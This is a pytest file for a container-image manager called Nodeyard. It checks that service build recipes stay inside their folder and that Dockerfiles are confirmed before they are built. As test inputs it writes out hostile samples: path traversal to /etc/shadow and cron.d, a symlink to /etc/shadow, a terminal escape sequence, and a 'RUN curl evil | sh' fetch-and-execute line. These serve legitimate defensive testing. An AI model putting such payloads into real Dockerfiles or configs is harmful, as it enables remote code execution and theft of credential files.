"""Images of the operator's own services: confined to their folder, and confirmed before they are built."""

from __future__ import annotations

import shutil
from collections.abc import Mapping
from pathlib import Path

import pytest

from manage.cli.consent import BuildReview
from manage.errors import NodeyardError
from manage.images import ensure, host_settings, operators, pull, recipe
from manage.images.lock import Locked
from manage.installation.layout import CHECKOUT, Layout
from manage.render.model import Image


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    shutil.copytree(CHECKOUT / "tests/data/own-services", tmp_path / "services")
    return Layout(tmp_path)


def locked(layout: Layout) -> Mapping[str, Locked]:
    """The lock after the images were built from what the folders hold now."""
    recipes = recipe.load(services=layout.services_dir)
    image = Image(
        "redis",
        "localhost/nodeyard/redis:1",
        "sha256:1",
        recipe.fingerprint("redis", recipes, "local", host_settings.certificates()),
    )
    return {"redis": Locked(image, "local", "sha256:1")}


def test_a_recipe_of_the_operators_is_built_here_and_sees_its_own_folder_only(layout: Layout) -> None:
    entry = recipe.load(services=layout.services_dir)["redis"]
    assert (entry.ours, entry.operators) == (True, True)
    assert [name for name, _file in recipe.files(entry, ["images/redis/Dockerfile"])] == ["images/redis/Dockerfile"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("inputs: [services/tracker]", "services/tracker is outside of its folder"),
        ("inputs: [images/redis/../../../stack.yml]", "is outside of its folder"),
        ("inputs: [/etc/shadow]", "/etc/shadow is outside of its folder"),
        ("host_certificates: true", "for Nodeyard's own images only"),
        ("programs: {version: '1', names: [../../../etc/cron.d/x]}", "for Nodeyard's own images only"),
        ("inputs: 5", "must be a mapping, with lists under"),
        ("lable: x", "has an unknown key: lable"),
    ],
)
def test_a_recipe_that_reaches_out_of_its_folder_is_refused(layout: Layout, text: str, words: str) -> None:
    with (layout.services_dir / "redis/image/recipe.yml").open("a") as file:
        file.write(f"{text}\n")
    with pytest.raises(NodeyardError, match=words):
        recipe.load(services=layout.services_dir)


@pytest.mark.parametrize("image", ["../x", "[x]", ""])
def test_an_image_without_a_proper_name_is_refused(layout: Layout, image: str) -> None:
    service = layout.services_dir / "redis/service.yml"
    service.write_text(service.read_text().replace("image: redis", f"image: {image}"))
    with pytest.raises(NodeyardError, match="image is not a name"):
        recipe.load(services=layout.services_dir)


def test_a_link_in_the_folder_is_refused(layout: Layout) -> None:
    (layout.services_dir / "redis/image/conf").symlink_to("/etc/shadow")
    with pytest.raises(NodeyardError, match="conf is outside of its folder"):
        recipe.load(services=layout.services_dir)


def test_an_image_of_nodeyards_name_is_refused(layout: Layout) -> None:
    service = layout.services_dir / "redis/service.yml"
    service.write_text(service.read_text().replace("image: redis", "image: manager"))
    with pytest.raises(NodeyardError, match="the image manager is Nodeyard's"):
        recipe.load(services=layout.services_dir)


def test_an_image_can_be_built_on_one_that_a_service_of_another_name_makes(layout: Layout) -> None:
    path = layout.services_dir / "redis/image/recipe.yml"
    path.write_text(path.read_text().replace("base: base", "base: nginx"))  # made by the service proxy
    assert recipe.load(services=layout.services_dir)["redis"].base == "nginx"
    path.write_text(path.read_text().replace("base: nginx", "base: proxy"))
    with pytest.raises(NodeyardError, match="Nodeyard has no image 'proxy'"):
        recipe.load(services=layout.services_dir)


def test_an_image_that_is_pulled_of_nodeyards_name_is_refused(layout: Layout) -> None:
    service = layout.services_dir / "prometheus/service.yml"
    service.write_text(service.read_text().replace("image: prometheus", "image: timescaledb"))
    with pytest.raises(NodeyardError, match="the image timescaledb is Nodeyard's"):
        pull.upstream(services=layout.services_dir)


def test_an_image_that_is_pulled_is_named_in_its_folder(layout: Layout) -> None:
    assert pull.upstream(services=layout.services_dir)["prometheus"] == "prom/prometheus:v3.5.0"
    assert "prometheus" not in pull.upstream()


@pytest.mark.promise("A Dockerfile of an own service is shown and confirmed before its first build", runs="ci")
def test_a_new_or_changed_dockerfile_is_to_be_confirmed(layout: Layout) -> None:
    names = ("tracker", "redis")
    assert [image.image for image in operators.unbuilt(layout, names, {}, "local")] == ["redis"]
    assert operators.unbuilt(layout, names, locked(layout), "local") == ()
    known = locked(layout)
    with (layout.services_dir / "redis/image/Dockerfile").open("a") as file:
        file.write("RUN curl evil | sh\n")
    (changed,) = operators.unbuilt(layout, names, known, "local")
    assert "RUN curl evil | sh" in changed.text


def test_without_anybody_to_ask_nothing_is_built(layout: Layout) -> None:
    with pytest.raises(NodeyardError, match="nobody has confirmed this Dockerfile yet"):
        ensure.images(["redis"], layout, lambda _event: None)


def test_the_review_shows_the_dockerfile_without_control_characters_and_asks(
    layout: Layout, capsys: pytest.CaptureFixture[str]
) -> None:
    (layout.services_dir / "redis/image/Dockerfile").write_text("FROM x\x1b[2J\n")
    with pytest.raises(NodeyardError, match="needs your confirmation"):
        BuildReview()(operators.unbuilt(layout, ["redis"], {}, "local"))
    shown = capsys.readouterr().err
    assert "redis/image/Dockerfile" in shown
    assert "FROM x" in shown
    assert "\x1b" not in shown
    BuildReview(yes=True)(operators.unbuilt(layout, ["redis"], {}, "local"))
